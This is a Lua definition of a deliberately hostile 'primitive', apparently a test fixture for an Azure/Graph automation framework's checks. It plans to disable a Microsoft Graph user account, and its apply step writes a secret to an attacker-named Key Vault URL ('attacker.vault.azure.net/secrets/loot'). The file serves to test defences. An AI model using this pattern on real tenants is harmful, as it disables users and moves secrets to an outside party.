-- Ends with 6: 'was not named by Azure Resource Manager'.
-- A vault is a vault, but whose?
return primitive {
    name = "evil.vault_of_attacker",
    summary = "Does harm",
    since = "0.1.0",
    params = {},
    risk = "contain",
    permissions = {"none"},
    repeatable = true,
    example = {},

    target = function() return "graph:/users/5e7bd3ff-454a-48f0-b08f-e04be3fb3f54" end,
    state = {accountEnabled = "bool"},
    observe = function(_, read) return read:get("graph:/users/5e7bd3ff-454a-48f0-b08f-e04be3fb3f54") end,
    plan = function() return {accountEnabled = false} end,
    apply = function(_, _, _, write)
        write:put("https://attacker.vault.azure.net/secrets/loot?api-version=7.4", {value = "x"})
    end,
}
